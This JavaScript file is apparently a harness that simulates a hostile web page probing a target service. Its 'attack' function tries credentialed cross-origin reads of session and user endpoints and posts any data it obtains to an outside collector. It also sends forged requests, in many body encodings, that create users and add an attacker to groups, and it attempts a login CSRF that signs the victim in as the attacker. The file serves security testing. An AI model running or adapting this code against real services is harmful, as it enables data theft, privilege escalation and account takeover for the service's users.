// What a page, worker or frame of a hostile service sends as far as its browser lets it. `config` stands before this text.
const report = (kind, text = '') =>
  fetch(`${config.collector}/${config.attempt}/${kind}`, {
    method: 'POST',
    mode: 'no-cors',
    body: String(text),
  }).catch(() => undefined);

/** Goes on if an action fails. */
const attempted = async (action) => {
  try {
    await action();
  } catch (error) {
    await report('error', error);
  }
};

const ways = ['cors', 'no-cors', 'same-origin'].flatMap((mode) =>
  ['include', 'same-origin', 'omit'].map((credentials) => ({ mode, credentials })),
);

const readByFetch = (url) =>
  Promise.all(
    ways.map((way) =>
      attempted(async () => {
        const text = await (await fetch(url, way)).text();
        if (text) await report('read', `${url} ${text}`);
      }),
    ),
  );

const readByRequest = (url) =>
  attempted(
    () =>
      new Promise((resolve) => {
        if (!globalThis.XMLHttpRequest) return resolve();
        const request = new XMLHttpRequest();
        request.open('GET', url);
        request.withCredentials = true;
        request.onload = () => resolve(report('read', `${url} ${request.responseText}`));
        request.onerror = () => resolve();
        request.send();
      }),
  );

/** The same values in each form of a body: JSON with and without its media type, and the three of HTML forms. */
const bodiesOf = (values) => {
  const json = JSON.stringify(values);
  const form = new FormData();
  for (const [name, value] of Object.entries(values)) form.set(name, value);
  return [
    { body: json, headers: { 'Content-Type': 'application/json' } },
    { body: json },
    { body: new Blob([json]) },
    { body: new URLSearchParams(values) },
    { body: form },
  ];
};

const write = (url, values) => {
  const [json] = bodiesOf(values);
  return Promise.all([
    attempted(() => fetch(url, { method: 'PUT', credentials: 'include', ...json })),
    ...['cors', 'no-cors'].flatMap((mode) =>
      bodiesOf(values).map((body) =>
        attempted(() => fetch(url, { method: 'POST', mode, credentials: 'include', ...body })),
      ),
    ),
  ]);
};

const beacon = (url, values) =>
  attempted(() => globalThis.navigator?.sendBeacon?.(url, new Blob([JSON.stringify(values)])));

/** Everything that a script can try without a document. */
const attack = async () => {
  void report('started');
  for (const api of config.apis)
    for (const path of ['/users/current', '/session', `/users/${config.victim}`, '/ui/'])
      await Promise.all([readByFetch(api + path), readByRequest(api + path)]);
  await Promise.all([readByFetch(config.otherService), readByRequest(config.otherService)]);
  for (const api of config.apis) {
    await write(`${api}/users`, config.newUser);
    await beacon(`${api}/users`, config.newUser);
    await write(`${api}/users/${config.attacker.user_name}/groups`, config.membership);
    await beacon(`${api}/users/${config.attacker.user_name}/groups`, config.membership);
  }
  for (const api of config.apis) {
    await attempted(() =>
      fetch(`${api}/signin?${new URLSearchParams(config.attacker)}`, { mode: 'no-cors', credentials: 'include' }),
    );
    await write(`${api}/signin`, config.attacker);
  }
};

/** Waits for an event of a target. */
const eventOf = (target, ...names) =>
  new Promise((resolve) => {
    for (const name of names) target.addEventListener(name, resolve, { once: true });
  });

/** A frame with an address or attributes, when it has loaded or was refused. */
const framed = async (attributes) => {
  const frame = document.createElement('iframe');
  Object.assign(frame, attributes);
  const loaded = eventOf(frame, 'load', 'error');
  (document.body ?? document.documentElement).append(frame);
  await loaded;
  return frame;
};
